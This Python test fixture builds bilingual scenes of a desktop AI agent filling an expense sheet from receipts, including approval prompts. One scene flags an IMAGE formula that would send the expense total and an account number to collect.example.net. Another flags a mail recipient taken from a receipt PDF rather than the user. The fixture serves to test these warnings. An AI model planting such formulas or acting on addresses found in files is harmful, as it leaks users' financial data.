"""What the fake host shows: one office story in two languages, as the Events that a real Session would hold."""

import datetime

from agent.core.actions import Effect, Grant, Mode, Question, Row, Source, Trust
from agent.core.changes import Changed, Checkpoint
from agent.core.events import (
    CallEnded,
    CallStarted,
    CheckpointMade,
    Ending,
    MessageAdded,
    PlanSet,
    QuestionAsked,
    RootGranted,
    Sent,
    SessionChanged,
    TurnEnded,
    TurnStarted,
    UsageAdded,
)
from agent.core.messages import AssistantMessage, Evidence, Outcome, Text, ToolCall, ToolResult, Usage, UserMessage
from agent.core.plans import PlanStep, StepState
from desktop.wire import messages as wire
from tests.desktop import code_scenes, money_scenes, trouble_scenes
from tests.desktop.delegate_scenes import at_work
from tests.desktop.review_scenes import reviewed

LIVE = "live"
STATES = {
    **dict.fromkeys(("running", "delegates", "metered", "notes", "testing", "nothing", "twenty", "names"), "running"),
    "code": "running", "no_sandbox": "running",
    **dict.fromkeys(("waiting", "asking", "noted", "outward", "fallback", "code_fetch"), "waiting"),
    **dict.fromkeys(("tampered", "done", "reviewed", "away", "code_done", "code_failed"), "done"),
    "outside": "done", "cut_off": "interrupted", "failed": "needs_user", "limit": "limit",
}  # fmt: skip


class Story:
    """Everything that a scene says. `language` is en or ja."""

    def __init__(self, language):
        self.language = language

    def say(self, en, ja):
        return ja if self.language == "ja" else en

    def root(self):
        path = self.say("/home/me/Expenses/October", "/home/me/経費/2026年10月")
        return RootGranted("", path)

    def title(self):
        return self.say("Put the October receipts into the expense sheet", "10月の領収書を精算書にまとめる")

    def others(self):
        say = self.say
        lines = (
            (say("Draft the quarterly report", "四半期レポートの下書き"), "running", {"minutes": 12}),
            (say("Compare the two contracts", "契約書の差分を確認"), "done", {"days": 1}),
            (say("Sort photos into folders by date", "写真を日付でフォルダー分け"), "needs_user", {"days": 4}),
            (say("Rename invoices", "請求書の名前をそろえる"), "stopped", {"days": 6}),
            (say("Old mails to a table", "古いメールを表にする"), "failed", {"days": 400}),
        )
        folders = self.folders()
        return tuple(
            wire.SessionView(f"s{at}", title, state, ago(**when), Mode.DESTRUCTIVE, "", (folders[at % 3],))
            for at, (title, state, when) in enumerate(lines)
        )

    def folders(self):
        say = self.say
        return (
            self.root(),
            RootGranted("", say("/home/me/Clients/Northwind", "/home/me/取引先/北風商事")),
            RootGranted("", say("/home/me/Archive 2025", "/home/me/2025年度アーカイブ"), writable=False),
        )

    def recipes(self):
        say = self.say
        choice = (wire.Choice("date", say("By date", "日付で")), wire.Choice("kind", say("By kind", "種類で")))
        help_text = say("Files in it are sorted.", "この中のファイルを整理します。")
        folder = wire.FieldView("folder", say("Folder", "フォルダー"), "folder", ".", help_text)
        fields = (
            folder,
            wire.FieldView("by", say("Sort by", "分け方"), "choice", "date", choices=choice, required=True),
            wire.FieldView("name", say("Name of the new folder", "新しいフォルダーの名前"), "text", required=True),
            wire.FieldView("deep", say("Also folders below", "下のフォルダーも含める"), "bool", "true"),
        )
        rows = (
            ("files:organise", say("Sort files into folders", "ファイルをフォルダーに整理"),
             say("By date, kind or name.", "日付・種類・名前で分けます。"), "folder-tree", fields),
            ("files:duplicates", say("Find duplicates", "重複ファイルを探す"),
             say("Files with the same contents.", "中身が同じファイルを見つけます。"), "copy", (folder,)),
            ("receipts:expenses", say("Receipts to an expense sheet", "領収書から精算書を作る"),
             say("Each value with its source.", "すべての値に出典が付きます。"), "receipt", (folder,)),
            ("tables:combine", say("Combine tables", "表を 1 つにまとめる"),
             say("Many workbooks, one table.", "複数のブックを 1 つの表にします。"), "table-2", (folder,)),
        )  # fmt: skip
        return tuple(wire.RecipeView(*row) for row in rows)

    def suggestions(self):
        why = (
            self.say("32 receipts lie in this folder", "このフォルダーに領収書が 32 件あります"),
            self.say("3 files are there twice", "同じファイルが 3 組あります"),
        )
        return (
            wire.Suggestion("receipts:expenses", {"folder": "."}, why[0]),
            wire.Suggestion("files:duplicates", {"folder": "."}, why[1]),
        )

    def no_model(self):
        sentence = self.say(
            "No model is connected, so I cannot work on this freely. These recipes run without one.",
            "モデルが接続されていないため、自由な指示には対応できません。次のレシピはモデルなしで実行できます。",
        )
        return wire.TurnAnswer(False, sentence, self.suggestions())

    def differences(self):
        sheet = self.say("Expenses", "経費")
        cells = (
            wire.Told(f"{sheet}!D14", self.say("value", "値"), (("+", "12,480"),)),
            wire.Told(f"{sheet}!D15", self.say("value", "値"), (("-", "3,200"), ("+", "3,520"))),
            wire.Told(
                f"{sheet}!D40", self.say("formula", "数式"), (("", "=SUM(D2:"), ("-", "D13"), ("+", "D39"), ("", ")"))
            ),
        )
        name = self.say("expenses.xlsx", "経費精算書.xlsx")
        return wire.Preview("differences", name, self.say("3 differences", "違い 3 件"), differences=cells, sides=True)

    def table(self):
        say = self.say
        head = (say("Date", "日付"), say("Paid to", "支払先"), say("Account", "科目"), say("Amount", "金額"))
        names = (say("Railway", "JR東日本"), say("Harbour Cafe", "港カフェ"), say("Stationer", "文具堂"))
        rows = tuple((f"10/0{at + 1}", names[at % 3], say("Travel", "旅費"), f"{1320 + 417 * at:,}") for at in range(9))
        return wire.Preview("table", say("expenses.xlsx", "経費精算書.xlsx"), rows=(head, *rows))

    # What happened

    def history(self, scene):
        say = self.say
        wish = say(
            "Put the October receipts into the expense sheet, and tidy up duplicates.",
            "10月の領収書を経費精算書にまとめて、重複ファイルは整理してください。",
        )
        told = MessageAdded(UserMessage((Text(wish),), (say("policy.docx", "経費規程.docx"),)))
        found = say("48 files, 32 of them PDFs", "48 件（うち PDF 32 件）")
        events = [self.root(), SessionChanged(self.title()), TurnStarted("t1", self.title()), told, *self.plan(1)]
        events += self.call("c1", "find", say("Look into the folder", "フォルダーの内容を確認"), found)
        paid = [*money_scenes.paid(), SessionChanged(most=1.0)]
        begun = {
            "running": [], "metered": paid, "delegates": at_work(self.say), "twenty": at_work(self.say, 22),
            "notes": trouble_scenes.notes(self.say, self.language),
            "fallback": trouble_scenes.fallback_asked(self.say, self.language),
            "names": trouble_scenes.long_names(self.say),
            **{name: told(self.say) for name, told in code_scenes.HISTORIES.items()},
        }  # fmt: skip
        if scene in begun:
            return events + begun[scene]
        sources = (
            Source(Trust.FILE, "receipt_10-08.pdf", 3), Source(Trust.FILE, say("expenses.xlsx", "経費精算書.xlsx")),
            Source(Trust.FILE, say("policy.docx", "経費規程.docx")),
        )  # fmt: skip
        events += [Sent("api.example.com", "Sonnet 5", 48_200, sources[1:]), Sent("", "qwen3", 9_100)]
        evidence = tuple(Evidence("receipt_10-08.pdf", f"p{n}", "12,480", "12480") for n in range(1, 3))
        read = say("32 read, 2 uncertain", "32 件を読み取り、2 件は要確認")
        usage = UsageAdded("Sonnet 5", Usage(18_400, 2_100, 0, 0.09), "api.example.com")
        events += self.call("c2", "read", say("Read 32 PDFs", "32 個の PDF を読み取り"), read, evidence, sources)
        events += [Sent("api.example.com", "Sonnet 5", 131_400, sources[:1]), SessionChanged(mode=Mode.DESTRUCTIVE)]
        events += [*self.sheet(), MessageAdded(AssistantMessage((Text(self.answer()),))), usage]
        return events + self.ending(scene)

    def sheet(self):
        say = self.say
        moved = say("receipts/2026-10-08.pdf", "領収書/2026-10-08.pdf")
        changed = (
            Changed("modify", say("expenses.xlsx", "経費精算書.xlsx"), "", "a", "b", 9000),
            Changed("create", say("summary.md", "要約.md"), "", "", "b", 900),
            Changed("move", say("scan0001.pdf", "スキャン0001.pdf"), moved),
        )
        title = say("Fill in expenses.xlsx", "経費精算書.xlsx に転記")
        said = say("32 rows added, 1 formula updated", "32 行を追加、式 1 件を更新")
        made = Checkpoint("k1", LIVE, title, ago(minutes=2), changed)
        done = ToolResult("c3", Outcome.DONE, (), said, checkpoint="k1")
        call = ToolCall("c3", "edit", "{}")
        return [CallStarted(call, title), CheckpointMade(made, "c3"), CallEnded(done), *self.plan(4)]

    def ending(self, scene):
        match scene:
            case "waiting" | "cut_off":
                call = ToolCall("c9", "organise", "{}")
                title = self.say("Tidy up 3 duplicates", "重複ファイル 3 個を整理")
                return [CallStarted(call, title), QuestionAsked("c9", self.rows())]
            case "noted":
                call = ToolCall("c9", "organise", "{}")
                return [CallStarted(call, self.say("Tidy up", "整理")), QuestionAsked("c9", self.noted())]
            case "outward":
                call = ToolCall("c9", "send", "{}")
                return [CallStarted(call, self.say("Send a mail", "メールを送信")), QuestionAsked("c9", self.outward())]
            case "asking":
                call = ToolCall("c9", "ask", "{}")
                return [CallStarted(call, self.say("Ask you", "確認")), QuestionAsked("c9", self.choice())]
            case "failed":
                return self.failed()
            case "limit":
                return [*money_scenes.paid(), SessionChanged(model="Sonnet 5", most=1.0), money_scenes.limit(self)]
            case "long":
                return [event for at in range(1000) for event in _round(at)]
            case _:
                return [*self.plan(6), reviewed(self.say, failed=scene == "reviewed"), TurnEnded(Ending.DONE)]

    def failed(self):
        say = self.say
        open_in_excel = say(
            "'budget.xlsx' is open in Excel. Close it there, then try again.",
            "「予算.xlsx」は Excel で開かれています。閉じてからもう一度お試しください。",
        )
        end = TurnEnded(
            Ending.NEEDS_USER,
            say("The key of “Sonnet 5” was refused.", "「Sonnet 5」の API キーが拒否されました。"),
            say("Enter a valid key in the settings of models.", "モデルの設定で有効なキーを入力してください。"),
            "key_refused",
        )
        result = ToolResult("c8", Outcome.FAILED, (), open_in_excel, "locked")
        title = say("Update budget.xlsx", "予算.xlsx を更新")
        return [CallStarted(ToolCall("c8", "edit", "{}"), title), CallEnded(result), end]

    def rows(self):
        say = self.say
        same = say("same as {}", "「{}」と同一")
        first, second = say("receipt_2026-10-03", "領収書_2026-10-03"), say("receipt_2026-10-11", "領収書_2026-10-11")
        names = (
            (f"{first} (1).pdf", f"{first}.pdf", 214_000),
            (f"{second} copy.pdf", f"{second}.pdf", 198_000),
            ("IMG_2231.jpg", "IMG_2213.jpg", 3_100_000),
        )
        rows = tuple(
            Row(at, Effect.DELETE, name, same.format(twin), True, size) for at, (name, twin, size) in enumerate(names)
        )
        title = say("Delete 3 duplicates", "重複ファイル 3 個を削除")
        why = say("Delete 3 (3.5 MB). 2 PDFs, 1 photo, in “October”.",
                  "削除 3 件(3.5 MB)。PDF 2 件、写真 1 件。場所は「2026年10月」です。")  # fmt: skip
        return Question("q1", title, why, rows, digest="d", offers=(Grant(Effect.DELETE, "*.pdf"),))

    def noted(self):
        say = self.say
        sheet, report = say("expenses.xlsx", "経費精算書.xlsx"), say("Reports/summary.docx", "報告/要約.docx")
        fetches = say(
            "Opening it would contact https://collect.example.net/p.gif?total=184260&account=2231 (IMAGE, D40).",
            "開くと https://collect.example.net/p.gif?total=184260&account=2231 に接続します(数式 IMAGE、D40)。",
        )
        shrinks = say("It would shrink from 48,120 to 2,310 bytes. That looks like a loss.",
                      "48,120 バイトから 2,310 バイトに減ります。内容が失われるおそれがあります。")  # fmt: skip
        unplanned = say("Not in the plan.", "計画にない操作です。")
        rows = (
            Row(0, Effect.WRITE, sheet, "changed", True, 48_200, (fetches,)),
            Row(1, Effect.WRITE, report, "changed", True, 2_310, (shrinks,)),
            Row(2, Effect.DELETE, say("scan0002.pdf", "スキャン0002.pdf"), "deleted", True, 420_000, (unplanned,)),
            Row(3, Effect.DELETE, say("scan0003.pdf", "スキャン0003.pdf"), "deleted", True, 380_000),
            Row(4, Effect.WRITE, say("Reports/notes.md", "報告/メモ.md"), "new", False, 1_200),
        )
        why = say("Delete 2, overwrite 2, new 1 (852 kB). 1 of them is not in the plan.",
                  "削除 2 件、上書き 2 件、新規 1 件(852 kB)。うち 1 件は計画にありません。")  # fmt: skip
        return Question("q3", say("Fill in and tidy up", "転記と整理"), why, rows, digest="d",
                        offers=(Grant(Effect.WRITE, say("Reports/*.docx", "報告/*.docx")),
                                Grant(Effect.WRITE, say("Reports/*.docx", "報告/*.docx"), "always")))  # fmt: skip

    def outward(self):
        say = self.say
        body = say(
            "Dear Ms Mori, please find the October expenses attached. The total is ¥184,260. Kind regards, Aya",
            "森様 10月分の経費精算書をお送りします。合計は ¥184,260 です。よろしくお願いいたします。",
        )
        detail = "\n".join((
            say("to: mori@kita-kaze.example", "宛先: mori@kita-kaze.example"),
            say("subject: October expenses", "件名: 10月分の経費"),
            say(f"text: {body}", f"本文: {body}"),
            say("file: expenses.xlsx (48 kB)", "ファイル: 経費精算書.xlsx(48 kB)"),
        ))  # fmt: skip
        note = say("You did not name mori@kita-kaze.example (to).",
                   "mori@kita-kaze.example(宛先)は、ご指示の中にありません。")  # fmt: skip
        row = Row(0, Effect.SEND, "mail.example.com", detail, True, notes=(note,))
        why = say("The address comes from “receipt_10-08.pdf”, not from you.",
                  "この宛先は、ご指示ではなく「receipt_10-08.pdf」に書かれていたものです。")  # fmt: skip
        return Question("q4", say("Send a mail", "メールを送信"), why, (row,), digest="d", undoable=False,
                        offers=(Grant(Effect.SEND, "mori@kita-kaze.example"),))  # fmt: skip

    def choice(self):
        say = self.say
        return Question(
            "q2",
            say("Which month shall the sheet say?", "精算書は何月分にしますか？"),
            say("Two receipts are of September.", "9月の領収書が 2 件あります。"),
            choices=(say("October", "10月"), say("September", "9月")),
        )

    def plan(self, done):
        say = self.say
        titles = (
            say("Look into the folder", "フォルダーの内容を確認"), say("Read 32 receipts", "領収書 32 件を読み取り"),
            say("Check the layout of the sheet", "精算書の書式を確認"), say("Fill in the sheet", "精算書へ転記"),
            say("Tidy up duplicates", "重複ファイルを整理"), say("Check and sum up", "結果を検算して要約"),
        )  # fmt: skip
        states = [StepState.DONE] * done + [StepState.ACTIVE] * (done < 6) + [StepState.OPEN] * (5 - done)
        return [PlanSet(tuple(PlanStep(title, state) for title, state in zip(titles, states, strict=True)))]

    def call(self, name, tool, title, result, evidence=(), sources=()):
        call = ToolCall(name, tool, "{}")
        done = ToolResult(name, Outcome.DONE, (), result, evidence=evidence, sources=sources)
        return [CallStarted(call, title), CallEnded(done)]

    def grants(self):
        say = self.say
        reports = Grant(Effect.WRITE, say("Reports/*.xlsx", "報告/*.xlsx"))
        lasting = Grant(Effect.WRITE, "*.md", "always")
        return (
            wire.GrantView(reports, self.root().path),
            wire.GrantView(lasting, self.root().path),
        )

    def sent(self):
        story = (event for event in self.history("done") if isinstance(event, Sent))
        sent = [
            wire.SentView(ago(minutes=9 - at), one.host, one.to, one.size, one.sources) for at, one in enumerate(story)
        ]
        mail = (Source(Trust.FILE, self.say("expenses.xlsx", "経費精算書.xlsx")),)
        page = "GET https://rates.example.com/2026-10"
        sent += [
            wire.SentView(ago(minutes=2), "smtp.kita-kaze.example", "call mail_send", 18_240, mail),
            wire.SentView(ago(minutes=1), "rates.example.com", page, len(page), ()),
        ]
        return tuple(sent)

    def answer(self):
        return self.say(
            "I read **32 receipts**. The total is **¥184,260**, by account:\n\n"
            "| Account | Receipts | Amount |\n|---|---:|---:|\n| Travel | 14 | ¥96,420 |\n| Meetings | 9 | ¥41,800 |\n"
            "| Supplies | 9 | ¥46,040 |\n\n`expenses.xlsx` has 32 new rows, and the sum in `D40` covers them. "
            "Two values that I am not sure of are marked yellow.\n\n1. Check rows 14 and 27.\n2. Send it.\n",
            "32 件の領収書を読み取りました。**合計は ¥184,260** です。勘定科目ごとの内訳は次のとおりです。\n\n"
            "| 勘定科目 | 件数 | 金額 |\n|---|---:|---:|\n| 旅費交通費 | 14 | ¥96,420 |\n| 会議費 | 9 | ¥41,800 |\n"
            "| 消耗品費 | 9 | ¥46,040 |\n\n`経費精算書.xlsx` に 32 行を追加し、`D40` の合計式を更新しました。"
            "読み取りに自信がない 2 件は黄色で示しています。\n\n"
            "1. 14 行目と 27 行目をご確認ください。\n2. 問題がなければ提出できます。\n",
        )


def _round(at):
    call = ToolCall(f"x{at}", "read", "{}")
    return [
        MessageAdded(AssistantMessage((Text(f"Paragraph {at}. " + "words " * (at % 40)),))),
        CallStarted(call, f"Read file {at}"),
        CallEnded(ToolResult(f"x{at}", Outcome.DONE, (), "read")),
    ]


def undo(checkpoint):
    """What putting back the sheet is told as."""
    changed = (Changed("modify", "expenses.xlsx"), Changed("modify", "経費精算書.xlsx"))
    return Checkpoint("k2", LIVE, "Undo", ago(minutes=0), changed, undoes=checkpoint)


def ago(**passed):
    """A moment before now, as the wire has it."""
    return (datetime.datetime.now(datetime.UTC) - datetime.timedelta(**passed)).isoformat()
